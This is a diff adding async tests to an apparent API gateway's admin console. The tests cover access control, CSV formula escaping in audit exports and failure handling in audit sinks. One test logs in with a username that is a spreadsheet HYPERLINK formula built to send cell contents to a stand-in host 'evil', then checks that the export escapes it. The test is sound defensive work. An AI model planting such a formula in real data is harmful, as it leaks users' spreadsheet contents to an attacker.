@@ -306,3 +306,48 @@ async def test_the_page_is_for_admins_and_its_forms_lock_and_unlock(console):
     page = await send(client, "GET", "/_gateway/admin?view=audit&type=user.*", token=admin,
                       accept="text/html")
     assert "user.locked" in page.text and "user.unlocked" in page.text
+
+
+async def test_review_a_non_admin_learns_nothing_from_bad_parameters(console):
+    client, admin = console
+    alice = await api_login(client)
+    for path in ("/_gateway/api/admin/sessions?limit=0", "/_gateway/api/admin/audit?since=x"):
+        assert (await send(client, "GET", path, token=alice)).status == 403
+    r = await send(client, "GET", "/_gateway/api/admin/audit?cursor=zzz", token=admin)
+    assert r.status == 400
+
+
+async def test_review_the_csv_export_never_hands_a_spreadsheet_a_formula(console):
+    client, admin = console
+    await send(client, "POST", "/_gateway/api/login",
+               json={"username": '=HYPERLINK("http://evil/?x="&A1,"x")', "password": "x"})
+    await client.app[GATEWAY].audit.flush()
+    r = await send(client, "GET", "/_gateway/api/admin/audit?format=csv&type=login.failure",
+                   token=admin)
+    import csv
+    import io
+    (row,) = list(csv.DictReader(io.StringIO(r.text)))
+    assert row["user"].startswith("'=")
+
+
+async def test_review_a_sink_that_fails_does_not_stop_the_trail(upstream, make_config,
+                                                                gateway, aiohttp_server):
+    refused: list[int] = []
+
+    async def hook(request: web.Request) -> web.Response:
+        refused.append(1)
+        return web.Response(status=400)               # refuses everything, always
+    app = web.Application()
+    app.router.add_post("/hook", hook)
+    receiver = await aiohttp_server(app)
+    client = await gateway(make_config(str(upstream.make_url("/")), audit={
+        "file": "/dev/full", "webhook": {"url": str(receiver.make_url("/hook"))}}))
+    admin = await api_login(client, "Admin", "admin-pw")
+    await api_login(client)                            # a full disk for the file sink
+    for _ in range(100):
+        if len(refused) >= 2:                          # the second event was not held up
+            break
+        await asyncio.sleep(0.05)
+    assert len(refused) >= 2
+    types = [e["type"] for e in await audit(client, admin)]
+    assert types.count("login.success") == 2           # still in the store
